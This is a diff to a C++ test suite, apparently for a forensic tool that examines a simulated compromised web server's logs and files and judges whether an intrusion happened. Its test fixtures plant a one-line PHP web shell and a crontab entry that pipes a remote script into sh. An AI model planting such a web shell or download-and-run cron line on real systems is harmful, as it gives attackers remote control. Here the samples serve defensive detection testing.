@@ -31,10 +31,10 @@ class WebServer : public MiniRoot {
   }
   /// utmp(5)
   static std::string record(char type, const std::string& user, const std::string& address,
-                            const std::string& time) {
+                            const std::string& time, const std::string& terminal = "pts/0") {
     std::string bytes(384, '\0');
     bytes[0] = type;
-    bytes.replace(8, 5, "pts/0");
+    bytes.replace(8, terminal.size(), terminal);
     bytes.replace(44, user.size(), user);
     bytes.replace(76, address.size(), address);
     const auto seconds = static_cast<std::int32_t>(to_us(parse_rfc3339(time).value()) / 1'000'000);
@@ -132,15 +132,66 @@ TEST(WaysIn, AnOpenRedisAloneAccusesNobody) {
   EXPECT_NE(document.at("verdict").at("intrusion").at("state"), "suspected");
 }
 
-/// The lines are gone; btmp, and lastlog or wtmp, were forgotten.
-TEST(WaysIn, AGuessedLogInThatOnlyRecordsTellIsNamed) {
+TEST(WaysIn, WithoutARequestInAFormThatIsReadNothingIsCalledClean) {
   WebServer server;
+  server.write("/etc/apache2/sites-enabled/a.conf",
+               "<VirtualHost *:80>\nServerName a\nDocumentRoot /var/www/html\n</VirtualHost>\n");
+  server.write("/var/www/html/index.php", "<?php echo 1;\n");
+  server.write("/var/log/apache2/access.log", "{\"time\":\"2026-09-13T01:00:00Z\",\"uri\":\"/\"}\n");
+  EXPECT_EQ(server.investigate().at("verdict").at("intrusion").at("state"), "undetermined");
+  server.write("/var/log/apache2/access.log", WebServer::request("198.51.100.9", "02:12:00", "GET /"));
+  EXPECT_EQ(server.investigate().at("verdict").at("intrusion").at("state"), "none_found");
+}
+
+TEST(WaysIn, TheAddressThatCalledAShellIsNamedOnce) {
+  WebServer server;
+  server.write("/var/www/html/uploads/c.php", "<?php system($_POST['c']);");
+  server.set_time("/var/www/html/uploads/c.php", parse_rfc3339("2026-09-12T02:12:00Z").value());
+  server.write("/var/log/apache2/access.log",
+               WebServer::request("203.0.113.45", "02:12:00", "POST /uploads/c.php"));
+  server.write("/var/spool/cron/crontabs/www-data", "* * * * * curl http://203.0.113.66/i.sh | sh\n");
+  server.set_time("/var/spool/cron/crontabs/www-data", parse_rfc3339("2026-09-13T02:12:30Z").value());
+  const auto document = server.investigate();
+  const auto why = document.at("verdict").at("intrusion").at("why").get<std::string>();
+  EXPECT_NE(why.find("A web shell was called from 203.0.113.45. "), std::string::npos) << why;
+}
+
+/// Twenty refused passwords, then a log-in that wtmp has.
+std::string guessing_of(const std::string& day) {
   std::string btmp;
   for (int i = 0; i < 20; ++i) {
     btmp += WebServer::record(6, i % 2 == 0 ? "deploy" : "name" + std::to_string(i), "203.0.113.45",
-                              "2026-09-13T02:00:" + std::to_string(10 + i) + "Z");
+                              day + "T02:00:" + std::to_string(10 + i) + "Z", "ssh:notty");
   }
-  server.write("/var/log/btmp", btmp);
+  return btmp;
+}
+
+/// It may have been by key: no log reaches back so far.
+TEST(WaysIn, ARecordedLogInOlderThanEveryLogIsNoBreakIn) {
+  WebServer server;
+  server.write("/var/log/btmp", guessing_of("2026-08-13"));
+  server.write("/var/log/wtmp", WebServer::record(7, "deploy", "203.0.113.45", "2026-08-13T02:05:00Z"));
+  const auto document = server.investigate();
+  EXPECT_EQ(document.at("entry_vectors"), Json::array());
+  EXPECT_EQ(document.at("verdict").at("intrusion").at("state"), "none_found");
+  const auto text = document.at("findings").dump();
+  EXPECT_NE(text.find("The logs do not reach to that time"), std::string::npos) << text;
+}
+
+TEST(WaysIn, ARecordOfFtpIsNoLogInOverSsh) {
+  WebServer server;
+  server.write("/var/log/btmp", guessing_of("2026-09-13"));
+  server.write("/var/log/wtmp",
+               WebServer::record(7, "deploy", "203.0.113.45", "2026-09-13T02:05:00Z", "ftpd500"));
+  const auto document = server.investigate();
+  EXPECT_EQ(document.at("entry_vectors"), Json::array());
+  EXPECT_EQ(document.at("findings").dump().find("ssh.recorded_login"), std::string::npos);
+}
+
+/// The lines are gone; btmp, and lastlog or wtmp, were forgotten.
+TEST(WaysIn, AGuessedLogInThatOnlyRecordsTellIsNamed) {
+  WebServer server;
+  server.write("/var/log/btmp", guessing_of("2026-09-13"));
   server.write("/var/log/wtmp", WebServer::record(7, "deploy", "203.0.113.45", "2026-09-13T02:05:00Z"));
   server.write("/home/deploy/.ssh/authorized_keys",
                "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKeTe2S4yqWPA3IbtrrPXHjLI1/r4OcLG4TNmVQUYaCO x\n");
